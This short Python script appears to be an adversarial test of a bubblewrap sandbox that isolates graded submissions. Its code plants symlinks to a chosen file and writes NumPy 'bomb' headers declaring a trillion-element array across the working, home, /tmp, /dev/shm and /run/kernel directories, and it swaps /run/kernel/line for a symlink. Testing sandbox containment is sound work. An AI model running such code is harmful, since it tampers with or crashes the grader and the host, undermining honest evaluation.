# ruff: noqa
"""
goal = "links to files of the machine, and arrays without end, wait wherever the grader may look"
invariant = "what a submission writes is read by nobody, and goes with it"
held_by = ["bubblewrap"]
"""

# %% last
import os
import struct
from contextlib import suppress

header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,)}".ljust(117) + b"\n"
bomb = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
target = open("link.txt").read()
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/run/kernel", "/home"):
    for number in range(10):
        with suppress(OSError):
            os.symlink(target, f"{folder}/attack-links_left_behind-{number}.json")
            open(f"{folder}/attack-links_left_behind-{number}.npy", "wb").write(bomb)
with suppress(OSError):
    os.unlink("/run/kernel/line")
    os.symlink(target, "/run/kernel/line")
